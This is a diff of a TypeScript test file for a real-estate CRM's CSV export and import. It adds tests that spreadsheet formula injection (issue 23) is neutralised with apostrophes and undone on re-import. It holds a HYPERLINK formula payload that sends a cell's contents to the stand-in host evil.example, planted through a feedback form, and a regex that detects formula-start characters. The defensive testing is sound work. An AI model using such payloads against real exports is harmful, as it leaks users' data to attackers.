@@ -3,12 +3,14 @@ import { and, count, eq } from 'drizzle-orm'
 import sharp from 'sharp'
 import { describe, expect, it } from 'vitest'
 import { getDb } from '#db/client.server.ts'
-import { clients, imports, properties } from '#db/schema.ts'
+import { clientFeedback, clients, imports, properties } from '#db/schema.ts'
 import type { ImportSummary } from '#app/modules/formats/imports.server.ts'
 import { findUser } from '#tests/support/db.ts'
 import { signedInBroker, TestBrowser } from '#tests/support/app.ts'
 import { createClientVia } from '#tests/support/clients.ts'
 import { createPropertyVia } from '#tests/support/properties.ts'
+import { sharedWorld } from '#tests/support/share-world.ts'
+import { unzip } from '#tests/support/zip.ts'
 
 /** A CSV download read back with csv-parse: the header row and the records by column name. */
 async function readCsv(response: Response) {
@@ -63,7 +65,8 @@ describe('CSV export', () => {
     await createClientVia(browser, { fullName: 'Rui New', email: 'rui@example.com', stage: 'new' })
     const records = await readCsv(await browser.get('/clients/export.csv?stage=won'))
     expect(records).toHaveLength(1)
-    expect(records[0]).toMatchObject({ FullName: 'Ana Won', Email: 'ana@example.com', PreferredPhone: '+351 910 000 000', kind: 'buyer', stage: 'won', LeadSource: 'Referral', tags: 'first-time buyer' })
+    // A phone number starting with + is text a spreadsheet would run as a formula: written with an apostrophe.
+    expect(records[0]).toMatchObject({ FullName: 'Ana Won', Email: 'ana@example.com', PreferredPhone: "'+351 910 000 000", kind: 'buyer', stage: 'won', LeadSource: 'Referral', tags: 'first-time buyer' })
 
     expect((await browser.get('/clients/export.csv?stage=platinum')).status).toBe(400)
     expect((await browser.get('/properties/export.csv?minPrice=abc')).status).toBe(400)
@@ -256,5 +259,123 @@ describe('CSV import', () => {
     expect(await long.text()).toContain('import at most 10,000 at a time')
     const empty = await upload(browser, 'clients', 'FullName\n')
     expect(empty.status).toBe(400)
+  })
+})
+
+// Issue 23: a cell a spreadsheet would run as a formula. A number (a negative longitude) is no
+// formula: a spreadsheet reads it as the number it is.
+const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/
+const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/
+const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+// Read as a spreadsheet reads: a CR, an LF or a CRLF outside quotes ends the row. (csv-parse
+// would otherwise take the first line end it sees as the only one, and read a bare LF in an
+// unquoted field as text, which no spreadsheet does.)
+const SPREADSHEET_READ = { bom: true, record_delimiter: ['\r\n', '\n', '\r'] }
+
+/** Every cell of a CSV file (header included) that a spreadsheet would run, as "file row:column cell". */
+function formulaCells(file: string, bytes: Buffer) {
+  // csv-parse throws on a record with a different number of fields: a broken file fails here.
+  const rows = parse(bytes, SPREADSHEET_READ) as string[][]
+  expect(rows.length, file).toBeGreaterThan(1)
+  return rows.flatMap((cells, row) =>
+    cells.flatMap((cell, column) => (FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell) ? [`${file} ${row + 1}:${rows[0]![column]} ${JSON.stringify(cell)}`] : [])),
+  )
+}
+
+const recordsOf = (bytes: Buffer) => parse(bytes, { ...SPREADSHEET_READ, columns: true }) as Record<string, string>[]
+
+describe('CSV formula injection (issue 23)', () => {
+  it('writes no cell a spreadsheet would run as a formula, in either list export or any CSV of "Export my data"; numbers stay numbers', async () => {
+    const { owner, propertyId, clientId, listingPath } = await sharedWorld()
+    // An anonymous client plants a formula through the share page's feedback form.
+    const planted = await new TestBrowser().post(listingPath, { propertyId, reaction: '', comment: HYPERLINK, name: '@Ana' })
+    expect(planted.status).toBe(303)
+    const [feedback] = await getDb().select().from(clientFeedback).where(eq(clientFeedback.clientId, clientId))
+    expect(feedback).toMatchObject({ comment: HYPERLINK, authorName: '@Ana' })
+
+    // The property form trims its text fields (zod's .trim(), as String.prototype.trim: spaces,
+    // tabs, CR and LF), so a title typed as "\t=1+1" is stored as "=1+1".
+    const typedId = await createPropertyVia(owner.browser, { title: '\t=1+1', city: '-Lisbon', referenceCode: '@REF-1', latitude: '38.7139', longitude: '-9.1334', floor: '-1', description: '+1 lift\nno commas here', privateNotes: "'=already quoted" })
+    const [typed] = await getDb().select().from(properties).where(eq(properties.id, typedId))
+    expect(typed).toMatchObject({ title: '=1+1', longitude: -9.1334, floor: -1 })
+    // A value that does begin with a tab or a CR (the forms cannot store one: this one is written
+    // in the database directly) is protected as it is, not trimmed first.
+    const storedId = await createPropertyVia(owner.browser, { title: 'Stored', referenceCode: 'REF-2' })
+    await getDb().update(properties).set({ title: '\t=1+1', city: '\r=2+2' }).where(eq(properties.id, storedId))
+    await createClientVia(owner.browser, { fullName: '@SUM(1)', email: 'sum@example.com', notes: '-2+3', phone: '+351 910 000 000', source: '=Referral' })
+    expect((await owner.browser.post('/comments', { intent: 'add', subject: 'property', id: propertyId, body: '-call the owner' })).status).toBe(302)
+
+    const propertiesCsv = Buffer.from(await (await owner.browser.get('/properties/export.csv')).arrayBuffer())
+    const clientsCsv = Buffer.from(await (await owner.browser.get('/clients/export.csv')).arrayBuffer())
+    const exported = await owner.browser.post('/profile/export', { intent: 'export-data' })
+    expect(exported.headers.get('Content-Type')).toBe('application/zip')
+    const zip = await unzip(Buffer.from(await exported.arrayBuffer()))
+    const zipCsvs = [...zip].filter(([name]) => name.startsWith('csv/'))
+    expect(zipCsvs.map(([name]) => name)).toEqual(expect.arrayContaining(['csv/properties.csv', 'csv/clients.csv', 'csv/client_feedback.csv', 'csv/comments.csv', 'csv/activities.csv']))
+
+    const offenders = [
+      ...formulaCells('properties export', propertiesCsv),
+      ...formulaCells('clients export', clientsCsv),
+      ...zipCsvs.flatMap(([name, bytes]) => formulaCells(name, bytes)),
+    ]
+    expect(offenders).toEqual([])
+
+    // Each planted text, with its apostrophe; numbers as numbers.
+    const listed = recordsOf(propertiesCsv)
+    expect(listed.find((r) => r.ListingId === "'@REF-1")).toMatchObject({
+      title: "'=1+1", City: "'-Lisbon", Latitude: '38.7139', Longitude: '-9.1334', floor: '-1', PublicRemarks: "'+1 lift\nno commas here", PrivateRemarks: "''=already quoted",
+    })
+    expect(listed.find((r) => r.ListingId === 'REF-2')).toMatchObject({ title: "'\t=1+1", City: "'\r=2+2" })
+    expect(recordsOf(clientsCsv).find((r) => r.Email === 'sum@example.com')).toMatchObject({ FullName: "'@SUM(1)", notes: "'-2+3", PreferredPhone: "'+351 910 000 000", LeadSource: "'=Referral" })
+
+    const table = (name: string) => recordsOf(zip.get(`csv/${name}.csv`)!)
+    expect(table('client_feedback')).toEqual([expect.objectContaining({ comment: `'${HYPERLINK}`, authorName: "'@Ana" })])
+    expect(table('properties').find((r) => r.id === typedId)).toMatchObject({ title: "'=1+1", latitude: '38.7139', longitude: '-9.1334', floor: '-1' })
+    expect(table('properties').find((r) => r.id === storedId)).toMatchObject({ title: "'\t=1+1", city: "'\r=2+2" })
+    expect(table('clients').find((r) => r.email === 'sum@example.com')).toMatchObject({ fullName: "'@SUM(1)", notes: "'-2+3" })
+    expect(table('comments').map((r) => r.body)).toEqual(["'-call the owner"])
+    // data.json keeps every value exactly.
+    const data = JSON.parse(zip.get('data.json')!.toString('utf8')) as { tables: Record<string, Record<string, unknown>[]> }
+    expect(data.tables.client_feedback?.[0]).toMatchObject({ comment: HYPERLINK, authorName: '@Ana' })
+    expect(data.tables.properties?.find((r) => r.id === storedId)).toMatchObject({ title: '\t=1+1', city: '\r=2+2' })
+  })
+
+  it('gives back the original text when an export is imported: the preview and the written rows', async () => {
+    const { browser: from } = await signedInBroker()
+    const text = { title: '=1+1', city: '@Porto', referenceCode: '-REF-1', description: '+ sea view', privateNotes: "'=kept with its apostrophe", area: "'hello" }
+    await createPropertyVia(from, { ...text, latitude: '41.1496', longitude: '-8.611', floor: '-2', tags: '-new, =x' })
+    const client = { fullName: '@SUM(1)', notes: '-2+3', phone: '+351 910 000 000', source: '=Referral', wantedPlaces: '+Porto' }
+    await createClientVia(from, { ...client, email: 'sum@example.com' })
+    const sourceProperties = Buffer.from(await (await from.get('/properties/export.csv')).arrayBuffer())
+    const sourceClients = Buffer.from(await (await from.get('/clients/export.csv')).arrayBuffer())
+    // The files do carry the apostrophes the import has to remove.
+    expect(recordsOf(sourceProperties)[0]).toMatchObject({ title: "'=1+1", ListingId: "'-REF-1", PrivateRemarks: "''=kept with its apostrophe", area: "'hello", tags: "'-new, =x" })
+    expect(recordsOf(sourceClients)[0]).toMatchObject({ FullName: "'@SUM(1)", wantedPlaces: "'+Porto" })
+
+    const { browser: to, email } = await signedInBroker()
+    const propertiesPreview = await uploadToPreview(to, 'properties', sourceProperties)
+    expect(propertiesPreview).toMatchObject({ rows: 1, toWrite: 1, errors: 0, duplicates: 0 })
+    const [checked] = await getDb().select().from(imports).where(eq(imports.id, propertiesPreview.path.split('/')[2]!))
+    expect(checked!.rows).toEqual([expect.objectContaining({ ...text, longitude: -8.611, floor: -2, tags: ['-new', '=x'] })])
+    expect((await confirm(to, propertiesPreview.path)).status).toBe(302)
+    const clientsPreview = await uploadToPreview(to, 'clients', sourceClients)
+    expect(clientsPreview).toMatchObject({ rows: 1, toWrite: 1, errors: 0 })
+    expect((await confirm(to, clientsPreview.path)).status).toBe(302)
+
+    const user = await findUser(email)
+    const [property] = await getDb().select().from(properties).where(eq(properties.ownerId, user.id))
+    expect(property).toMatchObject({ ...text, latitude: 41.1496, longitude: -8.611, floor: -2, tags: ['-new', '=x'] })
+    const [written] = await getDb().select().from(clients).where(eq(clients.ownerId, user.id))
+    expect(written).toMatchObject({ fullName: '@SUM(1)', notes: '-2+3', phone: '+351 910 000 000', source: '=Referral', wantedPlaces: ['+Porto'] })
+
+    // The preview names a duplicate by its original text too: the same file again.
+    const again = await uploadToPreview(to, 'properties', sourceProperties)
+    expect(again.summary.duplicates).toEqual([{ row: 2, field: 'ListingId', value: '-REF-1', firstRow: null }])
+
+    // And the new broker's export is the same file, but for the modification time.
+    const comparable = (bytes: Buffer) => recordsOf(bytes).map(({ ModificationTimestamp: _m, ...rest }) => rest)
+    expect(comparable(Buffer.from(await (await to.get('/properties/export.csv')).arrayBuffer()))).toEqual(comparable(sourceProperties))
+    expect(comparable(Buffer.from(await (await to.get('/clients/export.csv')).arrayBuffer()))).toEqual(comparable(sourceClients))
   })
 })
